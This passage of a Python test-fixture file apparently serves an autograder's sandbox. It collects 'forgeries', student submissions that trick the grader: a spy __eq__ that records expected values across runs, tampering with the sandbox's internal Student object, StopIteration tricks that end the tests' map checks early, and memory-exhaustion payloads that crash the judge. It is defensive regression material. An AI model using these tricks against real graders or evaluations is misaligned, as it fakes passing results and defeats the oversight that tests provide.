    forgery(
        "eq_spy_learns_the_expected_values_across_runs",
        """
STORES = ["/tmp/forge-learned.json", "/dev/shm/forge-learned.json", "forge-learned.json"]
learned = []
for store in STORES:
    try:
        with open(store) as file:
            learned += json.load(file)
    except (OSError, ValueError):
        pass

class Spy:
    def __eq__(self, other):
        if type(other) in (int, float):
            learned.append(other)
            for store in STORES:
                try:
                    with open(store, "w") as file:
                        json.dump(learned, file)
                except OSError:
                    pass
        return False

    __hash__ = object.__hash__

def guess():
    return learned[0] if learned else Spy()

def answer(): return guess()
def apply(f, x): return guess()
def fill(out): out.append(guess())
class Box:
    def __init__(self, value): self.value = guess()
class Resource(Resource):
    value = property(lambda self: guess())
""",
        runs=2,
    ),
]


# -- Class fixtures: a second assignment -------------------------------------------------
# Its tests skip a class of their own in setUpClass when an optional function is
# missing, and build a shared object in another class's setUpClass. A forgery must not
# get the tests it fails counted as skipped (left out of a proportional score).
FIXTURE_TESTS = """
import unittest

import calc


class BasicTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(calc.add(2, 3), 5)


class ExtraTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if not hasattr(calc, "multiply"):
            raise unittest.SkipTest("multiply is optional")

    def test_multiply(self):
        self.assertEqual(calc.multiply(2, 3), 6)


class StackTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.stack = calc.Stack()

    def test_push_pop(self):
        self.stack.push(1)
        self.assertEqual(self.stack.pop(), 1)

    def test_len(self):
        self.assertEqual(len(self.stack), 0)
"""
FIXTURE_HONEST = """
def add(a, b):
    return a + b


def multiply(a, b):
    return a * b


class Stack:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)

    def pop(self):
        return self.items.pop()

    def __len__(self):
        return len(self.items)
"""
FIXTURE_FORGERIES = [
    Forgery(
        # ExtraTest's skip was given to every test that did not run, so StackTest's
        # two tests, stopped by its failing setUpClass, counted as skipped.
        "setup_class_fails_after_another_class_skipped",
        """
def add(a, b):
    return a - b


class Stack:
    def __init__(self):
        raise RuntimeError("not written yet")
""",
    ),
    Forgery(
        # The same through an exit in setUpClass, which ends the suite.
        "setup_class_exits_after_another_class_skipped",
        """
import os

def add(a, b):
    return a - b


class Stack:
    def __init__(self):
        os._exit(0)
""",
    ),
]


# -- Names used while the tests load: a third assignment ---------------------------------
# Its tests use the functions they import at module level. What a student process's
# hello names is read without asking it anything; a forgery must not make the tests
# fail to load as though they were broken (the grader's error, "not the student's").
OPS_TESTS = """
import unittest

from ops import add, sub

OPERATIONS = {function.__name__: function for function in (add, sub)}


class OpsTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(OPERATIONS["add"](2, 3), 5)

    def test_sub(self):
        self.assertEqual(OPERATIONS["sub"](2, 3), -1)
"""
OPS_HONEST = """
def add(a, b):
    return a + b


def sub(a, b):
    return a - b
"""
OPS_FORGERIES = [
    Forgery(
        # Plain values named in the hello: the tests' own line raised, before anything
        # was asked, so the run was the assignment's error (recorded as the grader's).
        "hello_names_plain_values_to_blame_the_tests",
        """
import sys

student = sys.modules.get("gradeflow.grading.sandbox.jailed.student")
if student is not None:
    student.Student.named_objects = lambda self: [["add", 5], ["sub", 6]]


def add(a, b):
    return 0


def sub(a, b):
    return 0
""",
    ),
]


# -- A callback of the tests that calls student code again: a fourth assignment ---------
# Its tests hand two functions to student code: one asserts, the other calls student
# code again and, as a handler that must not stop the others, catches what it raises.
BUS_TESTS = """
import unittest

from bus import Bus


class BusTest(unittest.TestCase):
    def test_emit(self):
        bus = Bus()

        def check(value):
            self.assertEqual(value, 1)

        def relay(value):
            try:
                bus.emit("inner", value)
            except Exception:
                pass

        bus.on("outer", check)
        bus.on("outer", relay)
        bus.emit("outer", 1)
"""
BUS_HONEST = """
class Bus:
    def __init__(self):
        self.handlers = {}

    def on(self, name, handler):
        self.handlers.setdefault(name, []).append(handler)

    def emit(self, name, value):
        for handler in self.handlers.get(name, []):
            handler(value)
"""
BUS_FORGERIES = [
    Forgery(
        # check's AssertionError, swallowed by student code, was raised again when the
        # next call of student code returned: inside relay, which caught it for good.
        "assertion_raised_again_inside_a_callback_that_catches",
        """
class Bus:
    def __init__(self):
        self.handlers = {}

    def on(self, name, handler):
        self.handlers.setdefault(name, []).append(handler)

    def emit(self, name, value):
        for handler in self.handlers.get(name, []):
            try:
                handler(value + 1)
            except Exception:
                pass
""",
    ),
]


# -- An exception expected around a with block: a fifth assignment ------------------------
RES_TESTS = """
import unittest

from res import Reader


class ReaderTest(unittest.TestCase):
    def test_rejects_junk_after_a_good_line(self):
        with self.assertRaises(ValueError):
            with Reader() as reader:
                self.assertEqual(reader.parse("42"), 42)
                reader.parse("x")
"""
RES_HONEST = """
class Reader:
    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return False

    def parse(self, text):
        return int(text)
"""
RES_FORGERIES = [
    Forgery(
        # Not suppressed but replaced: the failed assertion in the block became the
        # ValueError the assertRaises around it expects.
        "exit_replaces_the_assertion_by_the_expected_exception",
        """
class Reader:
    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        raise ValueError("replaced")

    def parse(self, text):
        return 0
""",
    ),
]


# -- A print the tests patched to fail: a sixth assignment --------------------------------
QUIET_TESTS = """
import unittest
from unittest import mock

from quiet import compute


class QuietTest(unittest.TestCase):
    def test_computes_without_printing(self):
        with mock.patch("builtins.print", side_effect=AssertionError("compute must not print")):
            result = compute()
        self.assertEqual(result, 42)
"""
QUIET_HONEST = """
def compute():
    return 42
"""
QUIET_FORGERIES = [
    Forgery(
        # The print is replayed in the judge, where the patched print's AssertionError
        # was taken for output the tests could not write, and dropped.
        "print_patched_to_fail_is_replayed_and_dropped",
        """
def compute():
    print("debugging: the answer is 42")
    return 42
""",
    ),
]


# -- Predicates the tests map over: a seventh assignment -----------------------------------
# Its tests apply a student function with map and filter, as tests of predicates do.
PRED_TESTS = """
import unittest

from preds import is_prime


class PrimeTest(unittest.TestCase):
    def test_primes(self):
        self.assertTrue(all(map(is_prime, [2, 3, 5, 7, 11])))

    def test_composites(self):
        self.assertFalse(any(map(is_prime, [1, 4, 6, 8, 9])))

    def test_filter(self):
        self.assertEqual(list(filter(is_prime, [4, 6, 8])), [])
"""
PRED_HONEST = """
def is_prime(n):
    return n > 1 and all(n % d for d in range(2, int(n**0.5) + 1))
"""
PRED_FORGERIES = [
    Forgery(
        # A StopIteration out of a call that map or filter makes ends their iteration:
        # all() of nothing is True, any() of nothing False, the filter empty.
        "stop_iteration_ends_the_tests_map_early",
        """
def is_prime(n):
    raise StopIteration
""",
    ),
    Forgery(
        # The same through a class of the student's derived from StopIteration.
        "stop_iteration_subclass_ends_the_tests_map_early",
        """
class Done(StopIteration):
    pass


def is_prime(n):
    raise Done()
""",
    ),
    Forgery(
        # The same through an exhausted generator's send, which the tests call as is_prime.
        "exhausted_generator_send_as_the_function",
        """
def _nothing():
    yield


_generator = _nothing()
next(_generator)
is_prime = _generator.send
""",
    ),
]


# -- A generator's send, then predicates: a ninth assignment --------------------------------
# Its tests call a generator's send, whose StopIteration is the generator's to raise,
# and map over a predicate.
CORO_TESTS = """
import unittest

from coro import echo, is_prime


class CoroTest(unittest.TestCase):
    def test_echo(self):
        echoes = echo()
        next(echoes)
        self.assertEqual(echoes.send(5), 5)

    def test_primes(self):
        self.assertTrue(all(map(is_prime, [2, 3, 5, 7, 11])))

    def test_composites(self):
        self.assertFalse(any(map(is_prime, [1, 4, 6, 8, 9])))
"""
CORO_HONEST = """
def echo():
    value = None
    while True:
        value = yield value


def is_prime(n):
    return n > 1 and all(n % d for d in range(2, int(n**0.5) + 1))
"""
CORO_FORGERIES = [
    Forgery(
        # echo's send is is_prime: read as send, it was let raise StopIteration for the
        # rest of the run, also where the tests map over it as is_prime.
        "send_is_the_predicate_the_tests_map_over",
        """
def is_prime(n):
    raise StopIteration


class Echo:
    send = staticmethod(is_prime)

    def __iter__(self):
        return self

    def __next__(self):
        return None


def echo():
    return Echo()
""",
    ),
]


# -- An exception expected of any kind: an eighth assignment --------------------------------
# Its tests accept any exception for junk. The judge's own MemoryError, while it decodes
# what student code sent, must not be that exception.
PARSE_TESTS = """
import unittest

from parsing import parse


class ParseTest(unittest.TestCase):
    def test_numbers(self):
        self.assertEqual([parse(text) for text in ("1", "42", "-7")], [1, 42, -7])

    def test_rejects_junk(self):
        with self.assertRaises(Exception):
            parse("x")
"""
PARSE_HONEST = """
def parse(text):
    return int(text)
"""
PARSE_FORGERIES = [
    Forgery(
        # One deque in a list 460,000 times: 4 MB on the wire, one deque in the student
        # process, a new deque of 760 bytes each in the judge, which ran out of memory
        # decoding them; the MemoryError was the exception assertRaises expects.
        "one_deque_sent_many_times_fills_the_judge",
        """
import collections

_deque = collections.deque(maxlen=0)


def parse(text):
    if text.lstrip("-").isdigit():
        return 0
    return [_deque] * 460_000
""",
    ),
    Forgery(
        # Class descriptions forged by the hundred thousand in an answer: the judge kept
        # a proxy class of each (for the tests' isinstance) while the student process
        # lived, and ran out of memory in the call that assertRaises(Exception) wraps.
        "classes_heaped_up_in_the_judge",
        """
import gc
import sys

_module = sys.modules.get("gradeflow.grading.sandbox.jailed.student")
_student = next(
    (obj for obj in gc.get_objects() if _module and isinstance(obj, _module.Student)), None
)
_next = [1000]


class Payload:
    pass


if _student is not None:
    _local = _student.refs.local

    def _forged(obj, depth):
        if not isinstance(obj, Payload):
            return _local(obj, depth)
        items = []
        for _ in range(100_000):
            number = _next[0] = _next[0] + 1
            items.append(["h", number, "c", ["a", "a", False, None, []]])
        return ["l", *items]

    _student.refs.local = _forged


def parse(text):
    if text == "42":
        raise ValueError("not written yet")
    return Payload()
""",
    ),
    Forgery(
        # The same deques in the hello of the student process started again after a
        # crash (it knows it is the second by the time since its file was staged): the
        # judge ran out of memory starting it, in the call assertRaises(Exception) wraps.
        "deques_in_the_hello_after_a_restart",
        """
import os
import sys
import time

_module = sys.modules.get("gradeflow.grading.sandbox.jailed.student")
if time.time() - os.stat(__file__).st_mtime > 0.5 and _module is not None:
    _module.Student.named_objects = lambda self: [["parse", ["l", *[["dq", 0]] * 460_000]]]


def parse(text):
    time.sleep(1)
    os._exit(1)
""",
    ),
]


@dataclass(frozen=True)
class SmallAssignment:
    """An assignment of its own for forgeries that need tests unlike ``forge``'s."""

    module: str
    tests: str
    honest: str
    forgeries: list[Forgery]
    # The tests a forgery may see skipped: only by the tests' own setUpClass.
    skippable: frozenset[str] = frozenset()
    # Seconds of the run; more for forgeries that fill the judge's memory, which takes
    # the judge a while.
    time_limit_s: float = 2.0


SMALL_ASSIGNMENTS = [
    SmallAssignment(
        "calc",
        FIXTURE_TESTS,
        FIXTURE_HONEST,
        FIXTURE_FORGERIES,
        frozenset({"ExtraTest.test_multiply"}),
    ),
    SmallAssignment("ops", OPS_TESTS, OPS_HONEST, OPS_FORGERIES),
    SmallAssignment("bus", BUS_TESTS, BUS_HONEST, BUS_FORGERIES),
    SmallAssignment("res", RES_TESTS, RES_HONEST, RES_FORGERIES),
    SmallAssignment("quiet", QUIET_TESTS, QUIET_HONEST, QUIET_FORGERIES),
    SmallAssignment("preds", PRED_TESTS, PRED_HONEST, PRED_FORGERIES),
    SmallAssignment("coro", CORO_TESTS, CORO_HONEST, CORO_FORGERIES),
    SmallAssignment("parsing", PARSE_TESTS, PARSE_HONEST, PARSE_FORGERIES, time_limit_s=10.0),
]
